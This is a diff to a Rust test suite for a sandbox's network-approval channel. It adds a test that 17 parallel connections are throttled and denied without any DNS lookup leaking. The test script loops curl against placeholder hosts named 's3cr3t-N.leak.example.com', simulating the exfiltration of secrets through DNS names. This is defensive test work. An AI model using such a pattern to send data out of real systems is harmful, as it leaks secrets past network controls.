@@ -770,7 +770,7 @@ fn an_approved_name_reaches_only_the_addresses_shown() {
 /// resolver (`/etc/resolv.conf`, which the session's proxy uses) is a DNS
 /// server on the namespace's 127.0.0.1:53 that logs each query (`TYPE
 /// NAME` in `dns.log`) and knows `ok.example.com` (the origin's address);
-/// then the session.
+/// then the session, its commands writing `$D/out`.
 const LOGGING_RESOLVER: &str = r#"printf 'nameserver 127.0.0.1\noptions attempts:1 timeout:30\n' > "$D/resolv.conf"
 mount --bind "$D/resolv.conf" /etc/resolv.conf
 python3 -c '
@@ -798,7 +798,8 @@ while True:
 ' "$D/dns.log" "$D/dns-listening" "$SVC_IP" > /dev/null 2>&1 < /dev/null &
 echo $! > "$D/dns.pid"
 for i in $(seq 200); do [ -e "$D/dns-listening" ] && break; sleep 0.05; done
-exec $WRAP "$SANDBOX" session --backend auto --on-unsupported error --approval channel --no-network"#;
+mkdir -m 777 "$D/out"
+exec $WRAP "$SANDBOX" session --backend auto --on-unsupported error --approval channel --no-network -w "$D/out""#;
 
 /// No DNS leak through the approval channel: under `--no-network
 /// --approval channel` a name the harness denies is never queried at the
@@ -1026,5 +1027,63 @@ fn a_nested_run_is_not_asked_about() {
             assert_eq!(h.served(), ["/outer"]);
             h.close();
         }
+    }
+}
+
+/// The held limit comes before any lookup: a command opening 17
+/// connections to names no rule lists at once gets 16 questions (the
+/// limit, each by name alone) and the 17th refused unasked (`without
+/// asking`); with all 16 denied, none of the 17 names reached the host's
+/// resolver (which logs every query).
+#[test]
+fn the_held_limit_comes_before_any_lookup() {
+    for nobody in users() {
+        let mut h = Harness::open_with_env(nobody, LOGGING_RESOLVER, &[("SVC_IP", SVC_IP)]);
+        let d = h.path();
+        let script = format!(
+            r#"o={d}/out
+for i in $(seq 17); do curl -s -m 120 -w ' %{{http_code}}\n' http://s3cr3t-$i.leak.example.com:8080/ > $o/$i 2>&1 & done
+until grep -q "without asking" $o/[0-9]*; do sleep 0.05; done
+touch $o/refused
+wait
+cat $o/[0-9]*"#,
+            d = d.display()
+        );
+        h.start("h", &script);
+        let mut asked = Vec::new();
+        for _ in 0..16 {
+            let p = h.next();
+            assert_eq!(p["event"], "permission", "{p}");
+            assert_eq!(p["addresses"], Value::Null, "{p}");
+            assert!(p["host"].as_str().unwrap().starts_with("s3cr3t-"), "{p}");
+            asked.push(p["permission"].as_str().unwrap().to_owned());
+        }
+        // The 17th is refused while the 16 wait.
+        let refused = d.join("out/refused");
+        let deadline = std::time::Instant::now() + EVENT_WAIT;
+        while !refused.exists() {
+            assert!(
+                std::time::Instant::now() < deadline,
+                "the 17th connection was not refused while 16 were held"
+            );
+            std::thread::sleep(Duration::from_millis(50));
+        }
+        for p in &asked {
+            h.approve(p, "deny");
+        }
+        let exit = h.exit("h");
+        let out = exit["stdout"].as_str().unwrap();
+        assert_eq!(out.matches(" 403\n").count(), 17, "{exit}");
+        assert_eq!(out.matches("without asking").count(), 1, "{exit}");
+        assert_eq!(
+            answers(&exit),
+            vec![("deny".to_string(), "channel".to_string()); 16]
+        );
+        let log = std::fs::read_to_string(d.join("dns.log")).unwrap_or_default();
+        assert!(
+            !log.contains("s3cr3t"),
+            "a held or refused name was queried: {log}"
+        );
+        h.close();
     }
 }
